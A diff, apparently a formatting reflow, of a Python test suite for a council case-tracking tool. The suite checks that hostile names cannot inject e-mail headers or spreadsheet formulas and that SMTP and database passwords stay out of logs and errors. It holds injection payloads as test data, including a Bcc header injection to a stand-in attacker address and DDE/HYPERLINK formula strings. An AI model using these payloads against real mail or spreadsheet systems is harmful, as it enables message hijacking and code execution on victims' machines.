@@ -51,12 +51,35 @@ CONTROLS = [chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0))]  # C0, DEL
 BIDI = ["\u200e", "\u200f", "\u061c", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))]
 LEADERS = ["", "=", "+", "-", "@", "\t", "\r", "\n", " ", "\u3000"]
 FRAGMENTS = [
-    ":", "<", ">", "<>", ",", ";", '"', "\\", "(", ")", "Bcc:", "Bcc: spy@attacker.example",
-    "\r\nBcc: spy@attacker.example", "\nTo: spy@attacker.example", "<spy@attacker.example>",
-    ", spy@attacker.example, ", "=?utf-8?q?=0D=0ABcc:_spy=40attacker.example?=",
-    "=?utf-8?b?DQpCY2M6IHNweUBhdHRhY2tlci5leGFtcGxl?=", '=HYPERLINK("http://attacker.example","x")',
-    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "株式会社みどり工房", "東京都中小企業活性化協議会",
-    "ｶﾌﾞｼｷｶﾞｲｼｬ", "𠮷野家", "髙橋", "（株）",
+    ":",
+    "<",
+    ">",
+    "<>",
+    ",",
+    ";",
+    '"',
+    "\\",
+    "(",
+    ")",
+    "Bcc:",
+    "Bcc: spy@attacker.example",
+    "\r\nBcc: spy@attacker.example",
+    "\nTo: spy@attacker.example",
+    "<spy@attacker.example>",
+    ", spy@attacker.example, ",
+    "=?utf-8?q?=0D=0ABcc:_spy=40attacker.example?=",
+    "=?utf-8?b?DQpCY2M6IHNweUBhdHRhY2tlci5leGFtcGxl?=",
+    '=HYPERLINK("http://attacker.example","x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "株式会社みどり工房",
+    "東京都中小企業活性化協議会",
+    "ｶﾌﾞｼｷｶﾞｲｼｬ",
+    "𠮷野家",
+    "髙橋",
+    "（株）",
 ]
 _PIECE = st.one_of(
     st.sampled_from(BREAKS + CONTROLS + BIDI + FRAGMENTS),
@@ -78,8 +101,18 @@ def hostile_names(draw: st.DrawFn, max_size: int = 2000) -> str:
 
 # -- e-mail headers ---------------------------------------------------------------------------------
 
-HEADERS = sorted(["from", "to", "subject", "message-id", "date", "content-type", "content-transfer-encoding",
-                  "mime-version"])
+HEADERS = sorted(
+    [
+        "from",
+        "to",
+        "subject",
+        "message-id",
+        "date",
+        "content-type",
+        "content-transfer-encoding",
+        "mime-version",
+    ]
+)
 TO_ADDR = "office@minato-tax.example.jp"
 
 
@@ -110,25 +143,41 @@ def assert_sound_message(msg: EmailMessage, to_addr: str, to_name: str | None, s
 @given(name=hostile_names())
 def test_hostile_names_never_add_a_header_or_an_address(name: str) -> None:
     subject = f"【東京都中小企業活性化協議会】伴走支援（第1回）の期限が近づいています：{name}"
-    msg = build(sender="casetrack@council.example.jp", to_addr=TO_ADDR, to_name=name, subject=subject,
-                body="本文です。", message_id="<fixed@council.example.jp>")
+    msg = build(
+        sender="casetrack@council.example.jp",
+        to_addr=TO_ADDR,
+        to_name=name,
+        subject=subject,
+        body="本文です。",
+        message_id="<fixed@council.example.jp>",
+    )
     assert_sound_message(msg, TO_ADDR, name, subject)
 
 
-@pytest.mark.parametrize("name", [
-    "Minato Certified Tax Accountants Corporation, Tokyo Head Office (Shinjuku Branch)",  # quotes lost folding
-    "x" * 70 + ", spy@attacker.example, y",
-    "=?utf-8?q?=0D=0ABcc:_spy=40attacker.example?=",  # decoded by the e-mail package and written raw
-    "株式会社 =?utf-8?b?DQpCY2M6IHNweUBhdHRhY2tlci5leGFtcGxl?=",
-])
+@pytest.mark.parametrize(
+    "name",
+    [
+        "Minato Certified Tax Accountants Corporation, Tokyo Head Office (Shinjuku Branch)",  # quotes lost folding
+        "x" * 70 + ", spy@attacker.example, y",
+        "=?utf-8?q?=0D=0ABcc:_spy=40attacker.example?=",  # decoded by the e-mail package and written raw
+        "株式会社 =?utf-8?b?DQpCY2M6IHNweUBhdHRhY2tlci5leGFtcGxl?=",
+    ],
+)
 def test_names_that_broke_the_headers(name: str) -> None:
-    msg = build(sender="casetrack@council.example.jp", to_addr=TO_ADDR, to_name=name, subject=f"件名 {name}",
-                body="本文", message_id="<fixed@council.example.jp>")
+    msg = build(
+        sender="casetrack@council.example.jp",
+        to_addr=TO_ADDR,
+        to_name=name,
+        subject=f"件名 {name}",
+        body="本文",
+        message_id="<fixed@council.example.jp>",
+    )
     assert_sound_message(msg, TO_ADDR, name, f"件名 {name}")
     assert b"spy@attacker.example" not in msg.as_bytes()  # only ever inside encoded words
 
 
 # -- rendered reminders ----------------------------------------------------------------------------
+
 
 def _reminder_candidates(company: str, adviser: str, coordinator: str) -> list[rem.Candidate]:
     """One candidate per (template, recipient role) the shipped workflows use, about a case whose
@@ -137,22 +186,49 @@ def _reminder_candidates(company: str, adviser: str, coordinator: str) -> list[r
     for spec in all_workflows().values():
         for kind, item in spec.reminders.items():
             row = DueItem(
-                council="13", rule_set=spec.rule_sets[0].id, case_id="13-2026-0001", program=spec.program,
-                company_name=company, track=next(iter(spec.tracks)), state=item.open_in[0],
-                state_since=dt.date(2026, 12, 21), plan_date=None, validity_until=None,
-                coordinator=coordinator, lead_name=adviser, lead_email=TO_ADDR,
-                coordinator_display=None, coordinator_email="sato@council.example.jp",
-                accepted_on=dt.date(2026, 4, 20), seq=1, kind="regular",
-                nominal_due_on=dt.date(2027, 5, 3), due_on=dt.date(2027, 5, 6), retained=1_000_000,
-                decided_on=dt.date(2026, 12, 21))
+                council="13",
+                rule_set=spec.rule_sets[0].id,
+                case_id="13-2026-0001",
+                program=spec.program,
+                company_name=company,
+                track=next(iter(spec.tracks)),
+                state=item.open_in[0],
+                state_since=dt.date(2026, 12, 21),
+                plan_date=None,
+                validity_until=None,
+                coordinator=coordinator,
+                lead_name=adviser,
+                lead_email=TO_ADDR,
+                coordinator_display=None,
+                coordinator_email="sato@council.example.jp",
+                accepted_on=dt.date(2026, 4, 20),
+                seq=1,
+                kind="regular",
+                nominal_due_on=dt.date(2027, 5, 3),
+                due_on=dt.date(2027, 5, 6),
+                retained=1_000_000,
+                decided_on=dt.date(2026, 12, 21),
+            )
             for rung in item.rungs:
                 for role in rung.to:
                     name = adviser if role == "support_org" else coordinator
-                    seen.setdefault((rung.template, role), rem.Candidate(
-                        key="k", case_id="13-2026-0001", item=kind, item_ref="13-2026-0001#1", rung=rung.id,
-                        due_on=dt.date(2027, 5, 6), send_on=dt.date(2027, 4, 6), role=role,
-                        template=rung.template, context=rem.ItemContext(spec, row, BusinessCalendar()),
-                        to_addr=TO_ADDR, to_name=name))
+                    seen.setdefault(
+                        (rung.template, role),
+                        rem.Candidate(
+                            key="k",
+                            case_id="13-2026-0001",
+                            item=kind,
+                            item_ref="13-2026-0001#1",
+                            rung=rung.id,
+                            due_on=dt.date(2027, 5, 6),
+                            send_on=dt.date(2027, 4, 6),
+                            role=role,
+                            template=rung.template,
+                            context=rem.ItemContext(spec, row, BusinessCalendar()),
+                            to_addr=TO_ADDR,
+                            to_name=name,
+                        ),
+                    )
     return list(seen.values())
 
 
@@ -169,40 +245,64 @@ def test_hostile_names_in_reminders(company: str, adviser: str, council: str) ->
     councils = {"13": CouncilContact(council, council, council)}
     for c in _reminder_candidates(company, adviser, "sato"):
         # the day each template is true on (a session's due date is 2027-05-06)
-        day = {"session_due": dt.date(2027, 5, 6), "session_overdue": dt.date(2027, 5, 13),
-               "session_escalation": dt.date(2027, 6, 7)}.get(c.template, dt.date(2027, 4, 6))
+        day = {
+            "session_due": dt.date(2027, 5, 6),
+            "session_overdue": dt.date(2027, 5, 13),
+            "session_escalation": dt.date(2027, 6, 7),
+        }.get(c.template, dt.date(2027, 4, 6))
         subject, body = rem._render(c, day, councils)
         assert subject.splitlines() == [subject] and subject == one_line(subject)  # no break, no control
         assert one_line(company) in subject, c.template  # the whole name: none of it pushed into the body
         assert body.splitlines()[0].startswith(one_line(c.to_name or "")), c.template
-        msg = build(sender="casetrack@council.example.jp", to_addr=TO_ADDR, to_name=c.to_name,
-                    subject=subject, body=body, message_id="<fixed@council.example.jp>")
+        msg = build(
+            sender="casetrack@council.example.jp",
+            to_addr=TO_ADDR,
+            to_name=c.to_name,
+            subject=subject,
+            body=body,
+            message_id="<fixed@council.example.jp>",
+        )
         assert_sound_message(msg, TO_ADDR, c.to_name, subject)
 
 
 @settings(max_examples=100, deadline=None)
 @given(companies=st.lists(hostile_names(max_size=300), min_size=1, max_size=5))
 def test_hostile_names_in_the_weekly_digest(companies: list[str]) -> None:
-    text = render("email/weekly_digest.txt.j2", recipient={"name": "sato", "login": "sato"}, base_url="",
-                  today=dt.date(2027, 3, 1),
-                  week_label="2027年第9週", open_cases=len(companies), horizon_days=14,
-                  findings=[{"case": f"13-2026-{n:04d}", "code": "stalled", "days": 40, "message": name}
-                            for n, name in enumerate(companies)],
-                  upcoming=[{"due_on": dt.date(2027, 3, 5), "case_id": f"13-2026-{n:04d}", "company_name": name,
-                             "seq": 1} for n, name in enumerate(companies)],
-                  companies={f"13-2026-{n:04d}": name for n, name in enumerate(companies)},
-                  codes={"stalled": "停滞"})
+    text = render(
+        "email/weekly_digest.txt.j2",
+        recipient={"name": "sato", "login": "sato"},
+        base_url="",
+        today=dt.date(2027, 3, 1),
+        week_label="2027年第9週",
+        open_cases=len(companies),
+        horizon_days=14,
+        findings=[
+            {"case": f"13-2026-{n:04d}", "code": "stalled", "days": 40, "message": name}
+            for n, name in enumerate(companies)
+        ],
+        upcoming=[
+            {"due_on": dt.date(2027, 3, 5), "case_id": f"13-2026-{n:04d}", "company_name": name, "seq": 1}
+            for n, name in enumerate(companies)
+        ],
+        companies={f"13-2026-{n:04d}": name for n, name in enumerate(companies)},
+        codes={"stalled": "停滞"},
+    )
     first, _, rest = text.partition("\n")
-    assert first == f"【casetrack】週次ダイジェスト 2027年第9週：要対応 {len(companies)}件・今後14日の伴走支援 " \
-                    f"{len(companies)}件"
+    assert (
+        first == f"【casetrack】週次ダイジェスト 2027年第9週：要対応 {len(companies)}件・今後14日の伴走支援 "
+        f"{len(companies)}件"
+    )
     lines = rest.splitlines()
     for n, name in enumerate(companies):  # each finding and each session stays on its own line
         assert f"・13-2026-{n:04d} {one_line(name)}［停滞／40日］{one_line(name)}" in lines
-        assert any(line.startswith("・2027-03-05") and line.endswith(f"13-2026-{n:04d} {one_line(name)}　第1回")
-                   for line in lines)
+        assert any(
+            line.startswith("・2027-03-05") and line.endswith(f"13-2026-{n:04d} {one_line(name)}　第1回")
+            for line in lines
+        )
 
 
 # -- exports ---------------------------------------------------------------------------------------
+
 
 @settings(max_examples=examples(thorough=2_000, fast=300), deadline=None)
 @given(text=hostile_names())
@@ -228,8 +328,9 @@ def test_csv_rows_stay_rows(names: list[str]) -> None:
 def xlsx_text(text: str) -> str | None:
     """What an xlsx cell holding ``text`` reads back as: XML has no C0 controls but tab, LF and CR, and no
     U+FFFE/U+FFFF (the writer puts U+FFFD), and reads every CR or CRLF as LF; empty is no value."""
-    kept = "".join("\ufffd" if (ord(ch) < 0x20 and ch not in "\t\n\r") or ch in "\ufffe\uffff" else ch
-                   for ch in text)
+    kept = "".join(
+        "\ufffd" if (ord(ch) < 0x20 and ch not in "\t\n\r") or ch in "\ufffe\uffff" else ch for ch in text
+    )
     return kept.replace("\r\n", "\n").replace("\r", "\n") or None
 
 
@@ -237,8 +338,9 @@ def xlsx_text(text: str) -> str | None:
 @given(names=st.lists(hostile_names(), min_size=1, max_size=40))
 def test_xlsx_cells_are_strings(names: list[str]) -> None:
     out = io.BytesIO()
-    assert write_xlsx(out, "案件", NAME_COLUMNS, [{"id": f"c{n}", "company_name": name}
-                                                for n, name in enumerate(names)]) == len(names)
+    assert write_xlsx(
+        out, "案件", NAME_COLUMNS, [{"id": f"c{n}", "company_name": name} for n, name in enumerate(names)]
+    ) == len(names)
     ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
     assert ws.max_row == len(names) + 1
     for n, name in enumerate(names, start=2):
@@ -250,7 +352,7 @@ def test_xlsx_cells_are_strings(names: list[str]) -> None:
 EXPORT_NAMES = [
     '=HYPERLINK("http://attacker.example","株式会社みどり工房")',
     "+1+1\r\n=1+1\r\n@SUM(A1)",
-    "-2+3,\"x\",\ny",
+    '-2+3,"x",\ny',
     "@cmd|' /C calc'!A0",
     "株式会社\rBcc: spy@attacker.example\u2028=1\u2029+2\u0085-3",
     "\u202e=1+1 株式会社\u2066みどり\u2069工房\u200f",
@@ -273,17 +375,40 @@ def _storable(name: str) -> bool:
 
 
 def test_hostile_company_names_export_as_data(cli: Cli, world: World, tmp_path: Path) -> None:
-    adviser = cli.ok("org", "add", "--name", "=1+1 税理士法人 <spy@attacker.example>", "--kind", "tax_accountant",
-                     "--certified", "--email", "office@akuma-tax.example.jp")
-    assert cli("org", "add", "--name", "=1+1 税理士法人\r\n<spy@attacker.example>", "--kind", "other").code == 2
+    adviser = cli.ok(
+        "org",
+        "add",
+        "--name",
+        "=1+1 税理士法人 <spy@attacker.example>",
+        "--kind",
+        "tax_accountant",
+        "--certified",
+        "--email",
+        "office@akuma-tax.example.jp",
+    )
+    assert (
+        cli("org", "add", "--name", "=1+1 税理士法人\r\n<spy@attacker.example>", "--kind", "other").code == 2
+    )
     for name in [n for n in EXPORT_NAMES if not _storable(n)]:  # refused on entry, naming the character
         result = cli("company", "add", "--name", name, "--fiscal-year-end-month", "3")
         assert result.code == 2 and "U+" in result.err
     names: dict[str, str] = {}  # case id -> company name as stored
     for name in [n for n in EXPORT_NAMES if _storable(n)]:
         company = cli.ok("company", "add", "--name", name, "--fiscal-year-end-month", "3")
-        case = cli.ok("case", "open", "--program", "early", "--council", "13", "--company", str(company["id"]),
-                      "--support-org", str(adviser["id"]), "--on", "2026-04-01")
+        case = cli.ok(
+            "case",
+            "open",
+            "--program",
+            "early",
+            "--council",
+            "13",
+            "--company",
+            str(company["id"]),
+            "--support-org",
+            str(adviser["id"]),
+            "--on",
+            "2026-04-01",
+        )
         names[case["id"]] = company["name"]
     assert len(names) == len([n for n in EXPORT_NAMES if _storable(n)]) == 3  # the formula-like ones
 
@@ -317,8 +442,11 @@ USERNAME = "casetrack-bot"
 
 def secret_forms(password: str = PASSWORD) -> list[str]:
     """The password as it may travel: plain, base64 alone and inside AUTH PLAIN."""
-    return [password, base64.b64encode(password.encode()).decode(),
-            base64.b64encode(f"\0{USERNAME}\0{password}".encode()).decode()]
+    return [
+        password,
+        base64.b64encode(password.encode()).decode(),
+        base64.b64encode(f"\0{USERNAME}\0{password}".encode()).decode(),
+    ]
 
 
 def assert_no_secret(text: str, where: str) -> None:
@@ -342,8 +470,14 @@ class LoginServer(SmtpServer):
         return AuthResult(success=login == (USERNAME, self.password), handled=False)
 
     def start(self) -> None:
-        self._controller = Controller(self.handler, hostname=self.host, port=self.port, ready_timeout=10,
-                                      authenticator=self._login, auth_require_tls=False)
+        self._controller = Controller(
+            self.handler,
+            hostname=self.host,
+            port=self.port,
+            ready_timeout=10,
+            authenticator=self._login,
+            auth_require_tls=False,
+        )
         self._controller.start()
 
 
@@ -367,16 +501,20 @@ def _three_sweeps(cli: Cli, config: Path, caplog: pytest.LogCaptureFixture) -> N
     SweepJob(ctx, lambda: ctx.today, Lease(ctx), events.append)()
     assert events and events[-1]["event"] == "swept", events
     assert_no_secret(repr(events), "scheduler events")
-    for args in (["outbox", "list"], ["outbox", "list", "--format", "json"], ["doctor"],
-                 ["doctor", "--format", "json"]):
+    for args in (
+        ["outbox", "list"],
+        ["outbox", "list", "--format", "json"],
+        ["doctor"],
+        ["doctor", "--format", "json"],
+    ):
         result = cli("--config", str(config), *args)
         assert_no_secret(result.out + result.err, " ".join(args))
     assert_no_secret_logged(caplog)
 
 
-def test_smtp_password_is_sent_to_the_server_only(cli: Cli, world: World, tmp_path: Path,
-                                                  monkeypatch: pytest.MonkeyPatch,
-                                                  caplog: pytest.LogCaptureFixture) -> None:
+def test_smtp_password_is_sent_to_the_server_only(
+    cli: Cli, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
     caplog.set_level(logging.DEBUG)
     monkeypatch.setenv(PASSWORD_ENV, PASSWORD)
     server = LoginServer(PASSWORD)
@@ -394,13 +532,23 @@ def test_smtp_password_is_sent_to_the_server_only(cli: Cli, world: World, tmp_pa
 
 
 @pytest.mark.parametrize("failure", ["wrong_password", "auth_not_offered", "unreachable"])
-def test_smtp_password_kept_out_of_failures(cli: Cli, world: World, tmp_path: Path, failure: str,
-                                            monkeypatch: pytest.MonkeyPatch,
-                                            caplog: pytest.LogCaptureFixture) -> None:
+def test_smtp_password_kept_out_of_failures(
+    cli: Cli,
+    world: World,
+    tmp_path: Path,
+    failure: str,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
     caplog.set_level(logging.DEBUG)
     monkeypatch.setenv(PASSWORD_ENV, PASSWORD)
-    server = (LoginServer("the-right-one") if failure == "wrong_password"
-              else SmtpServer() if failure == "auth_not_offered" else None)  # unreachable: a free port
+    server = (
+        LoginServer("the-right-one")
+        if failure == "wrong_password"
+        else SmtpServer()
+        if failure == "auth_not_offered"
+        else None
+    )  # unreachable: a free port
     if server is not None:
         server.start()
     try:
@@ -421,14 +569,25 @@ def test_smtp_password_kept_out_of_failures(cli: Cli, world: World, tmp_path: Pa
 
         # the sender's own exception, with everything chained to it
         sender = make_sender(context(cli.db_url, S1_RUNGS["due"], config).settings)
-        msg = build(sender="casetrack@council.example.jp", to_addr=LEAD_EMAIL, to_name="みなと", subject="件名",
-                    body="本文", message_id="<probe@council.example.jp>")
+        msg = build(
+            sender="casetrack@council.example.jp",
+            to_addr=LEAD_EMAIL,
+            to_name="みなと",
+            subject="件名",
+            body="本文",
+            message_id="<probe@council.example.jp>",
+        )
         with pytest.raises(DeliveryFailure) as info:
             sender.send(msg, "probe")
         sender.close()
         exc = info.value
-        assert_no_secret("".join(traceback.format_exception(exc)) + repr(exc) + repr(exc.__context__)
-                         + repr(exc.__cause__), "the delivery exception")
+        assert_no_secret(
+            "".join(traceback.format_exception(exc))
+            + repr(exc)
+            + repr(exc.__context__)
+            + repr(exc.__cause__),
+            "the delivery exception",
+        )
     finally:
         if server is not None:
             server.stop()
@@ -444,13 +603,18 @@ def test_redact_hides_a_database_password() -> None:
 
 
 def _unreachable_databases() -> dict[str, str]:
-    urls = {"closed_port": f"postgresql+psycopg://casetrack:{DB_PASSWORD}@127.0.0.1:{free_port()}/casetrack",
-            "unknown_host": f"postgresql+psycopg://casetrack:{DB_PASSWORD}@no-such-host.invalid/casetrack"}
+    urls = {
+        "closed_port": f"postgresql+psycopg://casetrack:{DB_PASSWORD}@127.0.0.1:{free_port()}/casetrack",
+        "unknown_host": f"postgresql+psycopg://casetrack:{DB_PASSWORD}@no-such-host.invalid/casetrack",
+    }
     if os.environ.get(PG_ENV):  # the real server, a database it does not have (password ignored or refused)
         from sqlalchemy.engine import make_url
 
-        urls["no_such_database"] = make_url(os.environ[PG_ENV]).set(
-            password=DB_PASSWORD, database="casetrack_no_such_db").render_as_string(hide_password=False)
+        urls["no_such_database"] = (
+            make_url(os.environ[PG_ENV])
+            .set(password=DB_PASSWORD, database="casetrack_no_such_db")
+            .render_as_string(hide_password=False)
+        )
     return urls
 
 
@@ -459,20 +623,33 @@ UNREACHABLE = _unreachable_databases()
 
 @pytest.mark.parametrize("url", list(UNREACHABLE.values()), ids=list(UNREACHABLE))
 def test_database_password_never_shown(url: str, capsys: pytest.CaptureFixture[str]) -> None:
-    for args in (["case", "list"], ["case", "list", "--format", "json"], ["init"], ["doctor"],
-                 ["doctor", "--format", "json"], ["--debug", "case", "list"], ["--debug", "doctor"]):
+    for args in (
+        ["case", "list"],
+        ["case", "list", "--format", "json"],
+        ["init"],
+        ["doctor"],
+        ["doctor", "--format", "json"],
+        ["--debug", "case", "list"],
+        ["--debug", "doctor"],
+    ):
         result = Cli(url, capsys)(*args)
         assert result.code in (1, 2), (args, result)
         assert "***" in result.out + result.err, (args, result)  # the URL is named, its password hidden
         assert DB_PASSWORD not in result.out + result.err, (args, result)
 
 
-@pytest.mark.parametrize("url", [
-    f"postgresql+psycopg://casetrack:{DB_PASSWORD}@127.0.0.1:notaport/casetrack",  # a port that is no number
-    f"postgresql+psycopg://casetrack:{DB_PASSWORD}@[::1/casetrack",
-    f"postgres ql+psycopg://casetrack:{DB_PASSWORD}@127.0.0.1/casetrack",  # a typo in the scheme
-], ids=["port_not_a_number", "unclosed_ipv6", "scheme_typo"])
-def test_malformed_database_url_never_shows_its_password(url: str, capsys: pytest.CaptureFixture[str]) -> None:
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"postgresql+psycopg://casetrack:{DB_PASSWORD}@127.0.0.1:notaport/casetrack",  # a port that is no number
+        f"postgresql+psycopg://casetrack:{DB_PASSWORD}@[::1/casetrack",
+        f"postgres ql+psycopg://casetrack:{DB_PASSWORD}@127.0.0.1/casetrack",  # a typo in the scheme
+    ],
+    ids=["port_not_a_number", "unclosed_ipv6", "scheme_typo"],
+)
+def test_malformed_database_url_never_shows_its_password(
+    url: str, capsys: pytest.CaptureFixture[str]
+) -> None:
     for args in (["case", "list"], ["--debug", "case", "list"], ["doctor", "--format", "json"]):
         result = Cli(url, capsys)(*args)
         assert result.code != 0, (args, result)
